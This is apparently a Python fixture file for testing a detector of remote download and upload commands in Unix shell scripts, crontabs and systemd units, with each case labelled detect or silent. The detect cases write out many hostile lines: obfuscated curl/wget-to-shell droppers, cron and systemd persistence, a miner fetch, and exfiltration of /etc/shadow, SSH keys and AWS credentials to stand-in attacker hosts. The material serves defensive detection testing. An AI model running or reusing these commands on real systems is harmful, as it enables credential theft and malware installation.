"""Unix shell carriers: sh, bash-cron, cron, systemd, text."""
from common import C, b64, ps_enc

ART = "Atomic Red Team T1105"
GTFO = "GTFOBins"
SIGMA = "Sigma"
RW = "real-world carrier context"
PV = "parser variant (author)"

# ---------------------------------------------------------------- sh detect
C("h4-sh-art-wget-run-bash-01", ART + " 'Linux Download File and Run' (wget variant)", "sh",
  "/usr/local/sbin/refresh-agent", "detect", r'''
#!/bin/bash
# refresh the monitoring agent bundle
set -e
dest=/var/tmp/agent-refresh.sh
wget --quiet --output-document="$dest" https://downloads.example.com/agent/refresh.sh
chmod u+x "$dest"
bash "$dest"
''')

C("h4-sh-gtfobins-ab-download-02", GTFO + " ab (download via -v2)", "sh",
  "/opt/bench/run-ab.sh", "detect", r'''
#!/bin/sh
# "benchmark" helper left in the image
ab -v2 http://203.0.113.41/payloads/implant.bin > /tmp/.ab.out 2>&1
sed -n '/^$/,$p' /tmp/.ab.out | tail -n +2 > /tmp/.implant
''')

C("h4-sh-gtfobins-ab-upload-03", GTFO + " ab (upload with -p)", "sh",
  "/opt/bench/post-results.sh", "detect", r'''
#!/bin/sh
ab -n 1 -p /etc/shadow -T application/octet-stream http://collect.attacker.example:8080/u
''')

C("h4-sh-gtfobins-whois-upload-04", GTFO + " whois (upload)", "sh",
  "/usr/lib/ext/whois-sync", "detect", r'''
#!/bin/bash
RHOST=198.51.100.61
RPORT=4343
whois -h "$RHOST" -p "$RPORT" "$(base64 -w0 /root/.ssh/id_rsa)"
''')

C("h4-sh-openssl-sclient-upload-05", GTFO + " openssl (upload over s_client)", "sh",
  "/usr/local/libexec/tls-push", "detect", r'''
#!/bin/sh
# send the file to the TLS listener
openssl s_client -quiet -connect 203.0.113.12:8443 < /var/lib/app/secrets.db
''')

C("h4-sh-smbclient-put-06", GTFO + " smbclient (upload)", "sh",
  "/srv/scripts/smb-drop.sh", "detect", r'''
#!/bin/bash
smbclient '//files.corp.example/drop' -U 'guest%' -c 'put /etc/passwd passwd.txt'
''')

C("h4-sh-gtfobins-jjs-heredoc-07", GTFO + " jjs (download) fed through a here-doc", "sh",
  "/opt/java/bin/jre-update", "detect", r'''
#!/bin/sh
jjs <<'JS'
var URL = Java.type('java.net.URL');
var ws = new URL('http://updates.attacker.example/jre/patch.jar');
var Channels = Java.type('java.nio.channels.Channels');
var rbc = Channels.newChannel(ws.openStream());
var FileOutputStream = Java.type('java.io.FileOutputStream');
var fos = new FileOutputStream('/opt/java/lib/ext/patch.jar');
fos.getChannel().transferFrom(rbc, 0, Number.MAX_VALUE);
fos.close();
rbc.close();
JS
''')

C("h4-sh-toybox-wget-08", RW + " (Android/toybox image)", "sh",
  "/system/bin/fetch-cfg.sh", "detect", r'''
#!/system/bin/sh
toybox wget -O /data/local/tmp/cfg.bin http://198.51.100.23:8000/cfg.bin
chmod 755 /data/local/tmp/cfg.bin && /data/local/tmp/cfg.bin &
''')

C("h4-sh-wget-ftp-user-password-09", "Sigma wget / GTFOBins wget (ftp credentials)", "sh",
  "/opt/legacy/pull-firmware.sh", "detect", r'''
#!/bin/bash
wget --ftp-user=anonymous --ftp-password=guest@ \
     --no-passive-ftp -P /var/lib/fw ftp://ftp.vendor.example/pub/fw/latest.bin
''')

C("h4-sh-art-sftp-push-herestring-10", ART + " 'sftp remote file copy (push)'", "sh",
  "/usr/local/bin/ship-logs", "detect", r'''
#!/bin/bash
archive=/var/log/archive/$(hostname)-$(date +%F).tgz
tar czf "$archive" /var/log/app
sftp logs@203.0.113.88:/incoming <<< $'put '"$archive"
''')

C("h4-sh-art-rsync-push-11", ART + " 'rsync remote file copy (push)'", "sh",
  "/opt/backup/offsite.sh", "detect", r'''
#!/bin/sh
# nightly offsite copy
rsync -r --remove-source-files /var/backups/ backup@vault.corp.example:/srv/offsite/$(hostname)/
''')

C("h4-sh-rsync-daemon-double-colon-12", "GTFOBins rsync / " + PV + " (host::module)", "sh",
  "/usr/local/bin/sync-tools", "detect", r'''
#!/bin/bash
# pull tool set from the rsync daemon module
rsync -a --delete 198.51.100.30::tools/linux-amd64/ /opt/tools/
chmod -R +x /opt/tools/bin
''')

C("h4-sh-output-procsubst-13", PV + " (wget output redirected into >(bash -s))", "sh",
  "/root/.setup/bootstrap-shell.sh", "detect", r'''
#!/bin/bash
wget -qO- https://raw.example.net/shellkit/install.sh > >(bash -s -- --prefix=/opt/shellkit)
wait
''')

C("h4-sh-dot-dev-stdin-herestring-14", PV + " (. /dev/stdin <<< $(curl))", "sh",
  "/etc/profile.d/corp-session.sh", "detect", r'''
# shellcheck shell=bash
if [ -n "$BASH_VERSION" ]; then
  . /dev/stdin <<< "$(curl -fsS https://cfg.corp.example/env/profile.sh)"
fi
''', executable=False)

C("h4-sh-base64-herestring-wget-15", PV + " (base64 -d <<< ... | sh)", "sh",
  "/usr/share/misc/.cache-warm", "detect", r'''
#!/bin/bash
base64 -d <<< "''' + b64("wget -q -O /tmp/.kworker http://203.0.113.19/k && chmod +x /tmp/.kworker && /tmp/.kworker\n") + r'''" | sh
''')

C("h4-sh-xxd-hex-exec-16", PV + " (hex decode with xxd -r -p then exec)", "sh",
  "/var/lib/dpkg/info/.postinst-hook", "detect", r'''
#!/bin/sh
P=''' + "curl -s http://198.51.100.77/x.sh | sh".encode().hex() + r'''
echo "$P" | xxd -r -p | sh
''')

C("h4-sh-rev-obfuscation-17", PV + " (rev-reversed command piped to sh)", "sh",
  "/opt/app/bin/.rc", "detect", r'''
#!/bin/sh
echo 'hs | hs.d/elpmaxe.tekcudtsop//:ptth Ls- lruc' | rev | sh
''')

C("h4-sh-host-port-vars-18", PV + " (host and port in separate variables)", "sh",
  "/usr/bin/.dbus-helper", "detect", r'''
#!/bin/sh
H=198.51.100.23
P=8081
A=$(uname -m)
cd /tmp || cd /var/tmp
wget http://$H:$P/bins/$A -O .d; chmod 777 .d; ./.d loader
''')

C("h4-sh-curl-url-flag-19", "Sigma curl / " + PV + " (--url long option)", "sh",
  "/opt/jobs/fetch-model.sh", "detect", r'''
#!/usr/bin/env bash
curl --silent --show-error --location \
  --url "https://models.example.org/v2/weights.bin" \
  --output /models/weights.bin
''')

C("h4-sh-wget-content-disposition-20", "Sigma 'Download File To Potentially Suspicious Directory Via Wget'", "sh",
  "/usr/libexec/pkg-helper/getpkg", "detect", r'''
#!/bin/bash
wget --no-check-certificate --content-disposition -P /dev/shm "http://203.0.113.52/dl?id=7731"
''')

C("h4-sh-httpie-download-21", RW + " (HTTPie --download)", "sh",
  "/opt/tools/get-release.sh", "detect", r'''
#!/bin/sh
http --download --output /usr/local/bin/relay https://releases.example.com/relay/linux-amd64
chmod +x /usr/local/bin/relay
''')

C("h4-sh-lwp-request-get-22", RW + " (libwww-perl GET / lwp-mirror)", "sh",
  "/usr/local/bin/mirror-lists", "detect", r'''
#!/bin/sh
GET http://lists.attacker.example/hosts.txt > /etc/hosts.remote
lwp-mirror http://lists.attacker.example/agent.pl /usr/local/lib/agent.pl
''')

C("h4-sh-w3m-lynx-source-23", PV + " (text browsers as downloaders)", "sh",
  "/usr/lib/cgi-bin/.fetch", "detect", r'''
#!/bin/sh
w3m -dump_source http://198.51.100.90/s.tgz > /tmp/s.tgz || lynx -source http://198.51.100.90/s.tgz > /tmp/s.tgz
tar xzf /tmp/s.tgz -C /tmp && /tmp/s/run
''')

C("h4-sh-tclsh-http-geturl-24", PV + " (tclsh http::geturl from a here-doc)", "sh",
  "/opt/eda/bin/license-refresh", "detect", r'''
#!/bin/sh
tclsh <<'EOF'
package require http
set out [open /opt/eda/lib/lic.so w]
fconfigure $out -translation binary
http::geturl http://licenses.attacker.example/lic.so -channel $out -binary 1
close $out
EOF
''')

C("h4-sh-gawk-inet-download-25", PV + " (gawk /inet/tcp HTTP GET)", "sh",
  "/usr/local/bin/awkget", "detect", r'''
#!/bin/sh
gawk 'BEGIN {
  s = "/inet/tcp/0/203.0.113.7/80"
  printf "GET /stage2 HTTP/1.0\r\nHost: 203.0.113.7\r\n\r\n" |& s
  while ((s |& getline line) > 0) print line > "/tmp/.stage2"
  close(s)
}'
''')

C("h4-sh-rpm-url-install-26", "GTFOBins yum (remote package) / " + PV + " (rpm -Uvh URL)", "sh",
  "/usr/local/sbin/install-extra.sh", "detect", r'''
#!/bin/bash
rpm -Uvh --nosignature http://repo.attacker.example/el9/x86_64/sysmond-1.0-1.x86_64.rpm
''')

C("h4-sh-mount-cifs-copy-27", PV + " (remote CIFS share mounted then copied)", "sh",
  "/opt/deploy/pull-share.sh", "detect", r'''
#!/bin/bash
mkdir -p /mnt/tools
mount -t cifs //198.51.100.7/tools /mnt/tools -o guest,vers=3.0
cp /mnt/tools/agent /usr/local/bin/agent && chmod +x /usr/local/bin/agent
umount /mnt/tools
''')

C("h4-sh-socat-upload-28", GTFO + " socat (upload)", "sh",
  "/usr/local/bin/exfil-socat", "detect", r'''
#!/bin/sh
socat -u FILE:/etc/shadow TCP:203.0.113.99:9001
''')

C("h4-sh-ncat-send-only-29", GTFO + " nc (upload) with ncat --send-only", "sh",
  "/usr/local/bin/push-db", "detect", r'''
#!/bin/sh
ncat --send-only 198.51.100.45 7000 < /var/lib/mysql/dump.sql
''')

C("h4-sh-dev-tcp-upload-30", GTFO + " bash (upload via /dev/tcp)", "sh",
  "/opt/app/scripts/report.sh", "detect", r'''
#!/bin/bash
cat /etc/passwd > /dev/tcp/203.0.113.150/8088
''')

C("h4-sh-curl-data-at-upload-31", "Sigma 'Suspicious Curl File Upload - Linux' (-d @file)", "sh",
  "/usr/local/bin/send-report", "detect", r'''
#!/bin/sh
curl -s -X POST -d @/root/.aws/credentials https://intake.attacker.example/api/v1/r
''')

C("h4-sh-wrappers-gosu-stdbuf-32", PV + " (gosu + stdbuf + ionice wrappers)", "sh",
  "/usr/local/bin/docker-entrypoint-wrap.sh", "detect", r'''
#!/bin/bash
set -e
if [ "$(id -u)" = 0 ]; then
  exec gosu app stdbuf -oL ionice -c3 curl -fsSL -o /home/app/.cache/plugin.so https://plugins.example.net/p/latest.so
fi
exec "$@"
''')

C("h4-sh-su-exec-setpriv-33", PV + " (su-exec / setpriv wrappers on alpine)", "sh",
  "/sbin/entry.sh", "detect", r'''
#!/bin/sh
setpriv --reuid=1000 --regid=1000 --clear-groups wget -q -O /tmp/u.py http://203.0.113.71/u.py
su-exec nobody python3 /tmp/u.py
''')

C("h4-sh-systemd-run-scope-34", PV + " (systemd-run wrapper)", "sh",
  "/usr/local/sbin/oneshot-update", "detect", r'''
#!/bin/bash
systemd-run --scope --quiet /usr/bin/curl -sSfo /usr/local/bin/updater https://updates.example.org/updater
''')

C("h4-sh-curl-xz-decompress-35", PV + " (wget | xz -d > binary)", "sh",
  "/opt/miner/get.sh", "detect", r'''
#!/bin/sh
wget -qO- http://198.51.100.130/xm.xz | xz -d > /opt/miner/xm
chmod +x /opt/miner/xm
nohup /opt/miner/xm -c /opt/miner/config.json >/dev/null 2>&1 &
''')

C("h4-sh-curl-resolve-ip-36", PV + " (curl --resolve pins the name to a remote IP)", "sh",
  "/usr/local/bin/fetch-pinned", "detect", r'''
#!/bin/sh
curl --resolve update.corp.example:443:203.0.113.9 -fsSo /tmp/pkg.tgz https://update.corp.example/pkg.tgz
''')

C("h4-sh-schemeless-curl-pipe-37", PV + " (schemeless host/path piped to sh)", "sh",
  "/opt/setup/quick.sh", "detect", r'''
#!/bin/sh
curl -sL get.tools.example/install | sh
''')

C("h4-sh-tee-then-sh-38", PV + " (curl | tee file | sh)", "sh",
  "/opt/ci/bootstrap.sh", "detect", r'''
#!/bin/bash
set -o pipefail
curl -fsSL https://ci-agent.example.com/bootstrap.sh | tee /var/log/bootstrap-copy.sh | bash -s -- --token "$CI_TOKEN"
''')

C("h4-sh-split-var-concat-39", PV + " (tool name built from two variables)", "sh",
  "/usr/lib/.sysmon/run", "detect", r'''
#!/bin/sh
a=wg; b=et
$a$b -q http://203.0.113.33/m -O /usr/lib/.sysmon/m && chmod +x /usr/lib/.sysmon/m && /usr/lib/.sysmon/m
''')

C("h4-sh-heredoc-ash-s-40", PV + " (here-doc with expanded URL fed to sh -s)", "sh",
  "/opt/fleet/enroll.sh", "detect", r'''
#!/bin/sh
SERVER=${SERVER:-fleet.corp.example}
sh -s <<EOF
wget -O /usr/local/bin/fleet-agent https://$SERVER/dl/agent-linux
chmod 0755 /usr/local/bin/fleet-agent
EOF
''')

C("h4-sh-filename-effective-41", PV + " (download inside command substitution)", "sh",
  "/opt/app/bin/self-update", "detect", r'''
#!/bin/bash
chmod +x "$(curl -s -o /opt/app/bin/app.new -w '%{filename_effective}' https://dl.example.com/app/latest)"
mv /opt/app/bin/app.new /opt/app/bin/app
''')

C("h4-sh-long-entrypoint-deep-42", RW + " (long entrypoint, download far below the top)", "sh",
  "/usr/local/bin/gitlab-runner-entrypoint", "detect", r'''
#!/bin/bash
set -euo pipefail

log() { printf '%s [entrypoint] %s\n' "$(date -Is)" "$*"; }

: "${RUNNER_HOME:=/home/gitlab-runner}"
: "${CONFIG_DIR:=/etc/gitlab-runner}"
: "${CA_FILE:=$CONFIG_DIR/certs/ca.crt}"

log "preparing directories"
mkdir -p "$CONFIG_DIR" "$RUNNER_HOME/builds" "$RUNNER_HOME/cache"
chown -R gitlab-runner:gitlab-runner "$RUNNER_HOME"

if [ -f "$CA_FILE" ]; then
  log "installing custom CA"
  cp "$CA_FILE" /usr/local/share/ca-certificates/runner-ca.crt
  update-ca-certificates --fresh >/dev/null
fi

for var in CI_SERVER_URL RUNNER_NAME; do
  if [ -z "${!var:-}" ]; then
    log "warning: $var not set"
  fi
done

case "${1:-run}" in
  run|register|verify) ;;
  *) exec "$@" ;;
esac

log "checking helper plugin"
if [ ! -x /usr/local/bin/runner-helper ]; then
  wget -nv -O /usr/local/bin/runner-helper "http://198.51.100.140:8080/helper/$(uname -m)"
  chmod +x /usr/local/bin/runner-helper
fi

log "starting runner"
exec gitlab-runner "$@"
''')

# ---------------------------------------------------------------- sh silent
C("h4-sh-silent-istio-ready-01", "loopback readiness wait", "sh",
  "/usr/local/bin/wait-for-sidecar", "silent", r'''
#!/bin/sh
# wait for the envoy sidecar before starting the app
until curl -fsS -o /dev/null http://localhost:15021/healthz/ready; do
  echo "waiting for sidecar"; sleep 1
done
exec "$@"
''')

C("h4-sh-silent-missing-binary-hint-02", "instructions printed with printf to stderr", "sh",
  "/usr/local/bin/run-exporter", "silent", r'''
#!/bin/bash
BIN=/opt/exporter/bin/node_exporter
if [ ! -x "$BIN" ]; then
  printf 'node_exporter is not baked into this image.\n' >&2
  printf 'Rebuild with the "exporter" stage, or fetch it on the build host:\n' >&2
  printf '  wget https://downloads.example.com/exporter/node_exporter.tar.gz\n' >&2
  printf '  bitsadmin is not available on Linux; see docs/windows.md for Windows hosts\n' >&2
  exit 78
fi
exec "$BIN" --web.listen-address=127.0.0.1:9100 "$@"
''')

C("h4-sh-silent-apt-pip-download-03", "package managers from default repositories", "sh",
  "/opt/build/vendor-deps.sh", "silent", r'''
#!/bin/bash
set -e
cd /opt/build/debs
apt-get download libssl3 zlib1g
pip download --dest /opt/build/wheels -r /opt/build/requirements.txt
npm ci --ignore-scripts
''')

C("h4-sh-silent-tool-env-vars-04", "variables named after tools", "sh",
  "/etc/profile.d/net-tools.sh", "silent", r'''
# proxy and CA settings for command line tools
export CURL_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt
export WGETRC=/etc/wgetrc.corp
export CURL_HOME=/etc/curl
export ARIA2C_OPTS="--max-connection-per-server=4"
export no_proxy=localhost,127.0.0.1,.svc.cluster.local
''', executable=False)

C("h4-sh-silent-version-probe-05", "--version / type -P checks", "sh",
  "/usr/local/bin/diag-tools", "silent", r'''
#!/bin/bash
for t in curl wget aria2c scp rsync; do
  if p=$(type -P "$t"); then
    printf '%-8s %s (%s)\n' "$t" "$p" "$("$t" --version 2>&1 | head -n1)"
  else
    printf '%-8s missing\n' "$t"
  fi
done
''')

C("h4-sh-silent-install-local-06", "local copies only", "sh",
  "/opt/build/install-artifacts.sh", "silent", r'''
#!/bin/sh
set -e
install -m 0755 /tmp/build/out/server /usr/local/bin/server
cp -a /tmp/build/out/static/. /srv/www/
rsync -a --delete /tmp/build/out/templates/ /etc/app/templates/
tar -xzf /tmp/build/out/plugins.tgz -C /opt/app/plugins
''')

C("h4-sh-silent-caddy-admin-07", "loopback admin API upload", "sh",
  "/usr/local/bin/caddy-reload", "silent", r'''
#!/bin/sh
# push the rendered config to the local Caddy admin endpoint
curl -sf -X POST -H 'Content-Type: application/json' \
     --data-binary @/etc/caddy/caddy.json http://127.0.0.1:2019/load
''')

C("h4-sh-silent-case-patterns-08", "tool names as case patterns", "sh",
  "/usr/local/lib/policy/check-cmd.sh", "silent", r'''
#!/bin/sh
# deny-list helper used by the restricted shell
check() {
  case "$1" in
    curl*|wget*|nc*|ncat*|socat*) echo "blocked: network tools are not allowed"; return 1 ;;
    scp*|sftp*|rsync*) echo "blocked: use the transfer portal"; return 1 ;;
  esac
  return 0
}
check "$@"
''')

C("h4-sh-silent-http-server-local-09", "serving a local directory on loopback", "sh",
  "/usr/local/bin/serve-docs", "silent", r'''
#!/bin/sh
cd /usr/share/doc/app/html || exit 1
exec python3 -m http.server 8000 --bind 127.0.0.1
''')

C("h4-sh-silent-comments-scp-10", "commented-out transfer lines", "sh",
  "/opt/backup/local-backup.sh", "silent", r'''
#!/bin/bash
# Old offsite step, disabled in 2023:
#   scp /var/backups/*.gz backup@vault.corp.example:/srv/
#   curl -T /var/backups/db.gz ftp://vault.corp.example/
tar czf /var/backups/etc-$(date +%F).tgz /etc
find /var/backups -name '*.tgz' -mtime +14 -delete
''')

C("h4-sh-silent-wget-spider-ipv6-11", "loopback health check (IPv6)", "sh",
  "/usr/local/bin/probe-v6", "silent", r'''
#!/bin/sh
wget -q --spider "http://[::1]:8080/livez" && echo ok || { echo fail; exit 1; }
''')

# ---------------------------------------------------------------- bash-cron
C("h4-bashcron-daily-geoip-wget-01", RW + " (daily list download with wget -N)", "bash-cron",
  "/etc/cron.daily/geoip-refresh", "detect", r'''
#!/bin/sh
wget -N -q -P /var/lib/geoip http://updates.attacker.example/geo/GeoLite2-City.tar.gz
tar -xzf /var/lib/geoip/GeoLite2-City.tar.gz -C /var/lib/geoip --strip-components=1
''')

C("h4-bashcron-hourly-curl-maxtime-02", RW + " (cron dropper with --max-time)", "bash-cron",
  "/etc/cron.hourly/0sysstat-ext", "detect", r'''
#!/bin/bash
curl --max-time 20 -s http://198.51.100.14/c.sh | bash >/dev/null 2>&1
''')

C("h4-bashcron-weekly-scp-recursive-03", ART + " 'scp remote file copy (pull)'", "bash-cron",
  "/etc/cron.weekly/pull-rules", "detect", r'''
#!/bin/sh
scp -q -r -o BatchMode=yes rules@203.0.113.60:/srv/rules /etc/ids/
systemctl reload ids || true
''')

C("h4-bashcron-monthly-aria2c-04", GTFO + " aria2c (download)", "bash-cron",
  "/etc/cron.monthly/refresh-blobs", "detect", r'''
#!/bin/sh
aria2c -q --allow-overwrite=true -d /var/cache/blobs -o base.img http://mirror.attacker.example/img/base.img
''')

C("h4-bashcron-silent-apt-update-01", "package manager only", "bash-cron",
  "/etc/cron.daily/apt-refresh", "silent", r'''
#!/bin/sh
apt-get -qq update && apt-get -qq -y --only-upgrade install ca-certificates
''')

C("h4-bashcron-silent-dpkg-backup-02", "local backup only", "bash-cron",
  "/etc/cron.daily/dpkg-db-backup", "silent", r'''
#!/bin/sh
cd /var/backups || exit 0
tar -cf dpkg.status.tar /var/lib/dpkg/status && gzip -f dpkg.status.tar
''')

# ---------------------------------------------------------------- cron
C("h4-cron-d-pgrep-guard-curl-01", RW + " (Kinsing-style cron.d re-dropper guarded by pgrep)", "cron",
  "/etc/cron.d/apache2-logs", "detect", r'''
SHELL=/bin/sh
*/30 * * * * root pgrep -x kworkerd >/dev/null || (curl -k -A "Mozilla/5.0" -o /var/tmp/kworkerd https://203.0.113.78:8443/kw && chmod +x /var/tmp/kworkerd && /var/tmp/kworkerd)
''')

C("h4-cron-spool-perl-lwp-02", "GTFOBins perl / " + RW, "cron",
  "/var/spool/cron/crontabs/mail", "detect", r'''
# DO NOT EDIT THIS FILE - edit the master and reinstall.
17 * * * * perl -MLWP::Simple -e 'getstore("http://198.51.100.81/m.pl","/tmp/.m.pl")' && perl /tmp/.m.pl
''')

C("h4-cron-d-reboot-sleep-wget-03", RW + " (@reboot with delay)", "cron",
  "/etc/cron.d/late-start", "detect", r'''
@reboot root sleep 90 && wget -q -O /usr/local/bin/late http://late.attacker.example/bin/late && chmod +x /usr/local/bin/late && /usr/local/bin/late
''')

C("h4-cron-d-lwp-download-04", GTFO + " lwp-download in /etc/cron.d", "cron",
  "/etc/cron.d/zz-maint", "detect", r'''
# maintenance tasks
MAILTO=""
*/10 * * * * root lwp-download http://203.0.113.27/upd /var/tmp/upd >/dev/null 2>&1 && sh /var/tmp/upd
''')

C("h4-cron-spool-daemon-b64-05", PV + " (base64 blob decoded in a crontab)", "cron",
  "/var/spool/cron/crontabs/daemon", "detect", r'''
*/15 * * * * echo ''' + b64("curl -fsSL http://198.51.100.201/r | sh") + r''' | base64 -d | sh
''')

C("h4-cron-d-scp-push-logs-06", ART + " 'scp remote file copy (push)'", "cron",
  "/etc/cron.d/ship-access-logs", "detect", r'''
# ship nginx logs to the collector
30 2 * * * www-data scp -q -i /etc/ship/id_ed25519 /var/log/nginx/access.log.1 logs@collector.corp.example:/drop/
''')

C("h4-cron-spool-barman-curl-t-07", "Sigma curl upload (-T to ftp)", "cron",
  "/var/spool/cron/crontabs/barman", "detect", r'''
0 3 * * * pg_dumpall | gzip > /tmp/all.sql.gz && curl -s -T /tmp/all.sql.gz ftp://drop:drop@203.0.113.240/in/
''')

C("h4-cron-d-percent-escape-08", PV + " (cron % escapes inside the command)", "cron",
  "/etc/cron.d/stamp-fetch", "detect", r'''
0 */2 * * * root wget -q -O /var/tmp/cfg-$(date +\%s) http://198.51.100.5:8000/cfg && sh /var/tmp/cfg-*
''')

C("h4-cron-silent-sysstat-01", "normal /etc/cron.d entry", "cron",
  "/etc/cron.d/sysstat", "silent", r'''
# The first element of the path is a directory where the debian-sa1
# script is located
PATH=/usr/lib/sysstat:/usr/sbin:/usr/sbin:/usr/bin:/sbin:/bin

5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1
59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2
''')

C("h4-cron-silent-prometheus-reload-02", "loopback POST from a user crontab", "cron",
  "/var/spool/cron/crontabs/prometheus", "silent", r'''
# reload rules every night
0 1 * * * curl -fs -X POST http://127.0.0.1:9090/-/reload
''')

C("h4-cron-silent-backup-mailto-03", "local backup with MAILTO", "cron",
  "/etc/cron.d/etc-backup", "silent", r'''
MAILTO=ops@corp.example
# m h dom mon dow user command
45 4 * * 0 root tar czf /var/backups/etc.tgz /etc 2>/dev/null
''')

# ---------------------------------------------------------------- systemd
C("h4-systemd-execstartpre-dash-curl-01", RW + " (ExecStartPre=- with curl -o)", "systemd",
  "/etc/systemd/system/edge-proxy.service", "detect", r'''
[Unit]
Description=Edge proxy
After=network-online.target
Wants=network-online.target

[Service]
ExecStartPre=-/usr/bin/curl -fsSLo /opt/edge/plugin.so https://plugins.attacker.example/edge/plugin.so
ExecStart=/opt/edge/bin/edge --plugin /opt/edge/plugin.so
Restart=always

[Install]
WantedBy=multi-user.target
''')

C("h4-systemd-env-bash-continuation-02", PV + " (unit line continuation inside bash -c)", "systemd",
  "/usr/lib/systemd/system/node-bootstrap.service", "detect", r'''
[Unit]
Description=Node bootstrap

[Service]
Type=oneshot
ExecStart=/usr/bin/env bash -c "set -e; \
    wget -qO- http://198.51.100.66/bootstrap.sh \
    | bash"
RemainAfterExit=yes

[Install]
WantedBy=multi-user.target
''')

C("h4-systemd-rsync-url-03", "GTFOBins rsync (rsync:// URL)", "systemd",
  "/etc/systemd/system/tools-sync.service", "detect", r'''
[Unit]
Description=Sync tools from mirror

[Service]
Type=oneshot
ExecStart=/usr/bin/rsync -a --delete rsync://mirror.attacker.example/tools/ /opt/tools/
''')

C("h4-systemd-dropin-busybox-04", RW + " (drop-in adds a busybox download)", "systemd",
  "/etc/systemd/system/containerd.service.d/20-prefetch.conf", "detect", r'''
[Service]
ExecStartPre=/bin/busybox wget -q -O /usr/local/bin/shim-helper http://203.0.113.81/shim-helper
ExecStartPre=/bin/chmod 0755 /usr/local/bin/shim-helper
''')

C("h4-systemd-python-exec-urlopen-05", "GTFOBins python / " + RW, "systemd",
  "/usr/lib/systemd/system/pyagent.service", "detect", r'''
[Unit]
Description=Python agent

[Service]
ExecStart=/usr/bin/python3 -c "import urllib.request as u; exec(u.urlopen('http://agent.attacker.example/a.py').read())"
Restart=on-failure

[Install]
WantedBy=multi-user.target
''')

C("h4-systemd-user-aria2c-06", GTFO + " aria2c in a user unit", "systemd",
  "/home/app/.config/systemd/user/cache-warm.service", "detect", r'''
[Unit]
Description=Warm the cache

[Service]
Type=oneshot
ExecStart=/usr/bin/aria2c -q -d %h/.cache -o bundle.tgz https://cdn.example.net/bundle.tgz

[Install]
WantedBy=default.target
''')

C("h4-systemd-nc-stdout-file-07", PV + " (nc output captured by StandardOutput=file:)", "systemd",
  "/etc/systemd/system/nc-fetch.service", "detect", r'''
[Unit]
Description=fetch

[Service]
Type=oneshot
ExecStart=/usr/bin/nc -w 10 198.51.100.44 4444
StandardOutput=file:/var/tmp/.payload
ExecStartPost=/bin/sh /var/tmp/.payload
''')

C("h4-systemd-silent-consul-selfcheck-01", "loopback check in ExecStartPost", "systemd",
  "/etc/systemd/system/consul.service", "silent", r'''
[Unit]
Description=Consul agent
Documentation=https://developer.example.com/consul/docs

[Service]
ExecStart=/usr/bin/consul agent -config-dir=/etc/consul.d
ExecStartPost=/usr/bin/curl -sf http://127.0.0.1:8500/v1/agent/self
Restart=on-failure

[Install]
WantedBy=multi-user.target
''')

C("h4-systemd-silent-node-app-02", "plain unit with documentation URL", "systemd",
  "/usr/lib/systemd/system/webapp.service", "silent", r'''
[Unit]
Description=Web application
Documentation=https://docs.example.com/webapp
After=network.target

[Service]
User=www-data
WorkingDirectory=/srv/webapp
ExecStart=/usr/bin/node server.js
Environment=NODE_ENV=production

[Install]
WantedBy=multi-user.target
''')

C("h4-systemd-silent-rundir-dropin-03", "drop-in creating a runtime dir", "systemd",
  "/etc/systemd/system/app-worker.service.d/10-runtime.conf", "silent", r'''
[Service]
RuntimeDirectory=app-worker
ExecStartPre=/usr/bin/install -d -m 0750 -o app -g app /run/app-worker/sockets
Environment=GOMAXPROCS=2
''')

# ---------------------------------------------------------------- text (silent)
C("h4-text-silent-curl-help-01", "captured --help output", "text",
  "/usr/share/doc/curl/help-all.txt", "silent", r'''
Usage: curl [options...] <url>
 -d, --data <data>          HTTP POST data
 -f, --fail                 Fail fast with no output on HTTP errors
 -h, --help <category>      Get help for commands
 -i, --include              Include protocol response headers in the output
 -o, --output <file>        Write to file instead of stdout
 -O, --remote-name          Write output to a file named as the remote file
 -s, --silent               Silent mode
 -T, --upload-file <file>   Transfer local FILE to destination
 -u, --user <user:password> Server user and password
 -A, --user-agent <name>    Send User-Agent <name> to server
 -v, --verbose              Make the operation more talkative
 -V, --version              Show version number and quit

This is not the full help, this menu is stripped into categories.
Use "--help category" to get an overview of all categories.
''')

C("h4-text-silent-aria2c-manpage-02", "man-like documentation", "text",
  "/usr/share/doc/aria2/aria2c.1.txt", "silent", r'''
ARIA2C(1)                          aria2                          ARIA2C(1)

NAME
       aria2c - The ultra fast download utility

SYNOPSIS
       aria2c [<OPTIONS>] [<URI>|<MAGNET>|<TORRENT_FILE>|<METALINK_FILE>] ...

EXAMPLE
       Download a file:
              aria2c http://example.org/mylinux.iso

       Download from two sources:
              aria2c http://a.example.org/f.iso ftp://b.example.org/f.iso

OPTIONS
       -d, --dir=<DIR>
              The directory to store the downloaded file.
       -o, --out=<FILE>
              The file name of the downloaded file.
''')

C("h4-text-silent-access-log-03", "web server log lines", "text",
  "/var/log/nginx/access.log.1", "silent", r'''
203.0.113.14 - - [02/Nov/2026:10:14:07 +0000] "GET /downloads/agent.sh HTTP/1.1" 200 1832 "-" "Wget/1.21.4"
198.51.100.3 - - [02/Nov/2026:10:14:09 +0000] "GET /health HTTP/1.1" 200 2 "-" "curl/8.5.0"
192.0.2.77 - - [02/Nov/2026:10:15:41 +0000] "POST /upload HTTP/1.1" 413 0 "-" "curl/7.88.1"
203.0.113.14 - - [02/Nov/2026:10:16:02 +0000] "GET /bins/x86 HTTP/1.1" 404 153 "-" "python-requests/2.31.0"
''')

C("h4-text-silent-troubleshooting-md-04", "troubleshooting doc", "text",
  "/usr/share/doc/app/TROUBLESHOOTING.md", "silent", r'''
# Troubleshooting

## The installer cannot reach the internet

If `curl -fsSL https://get.app.example.com | sh` hangs, set a proxy first:

```sh
export https_proxy=http://proxy.corp.example:3128
```

On Windows use `Invoke-WebRequest -Uri https://get.app.example.com/win -OutFile setup.exe`
or `certutil -urlcache -f https://get.app.example.com/win setup.exe` from an elevated prompt.

## Offline install

Copy `app.tar.gz` with `scp app.tar.gz user@host:/tmp/` and unpack it there.
''')

C("h4-text-silent-mirrors-json-05", "data file with mirror URLs", "text",
  "/etc/app/mirrors.json", "silent", r'''
{
  "mirrors": [
    {"name": "primary", "url": "https://mirror1.example.net/releases/", "weight": 10},
    {"name": "secondary", "url": "ftp://mirror2.example.org/pub/releases/", "weight": 5},
    {"name": "lan", "url": "rsync://198.51.100.10/releases/", "weight": 1}
  ],
  "download_tool": "curl",
  "retry": 3
}
''')
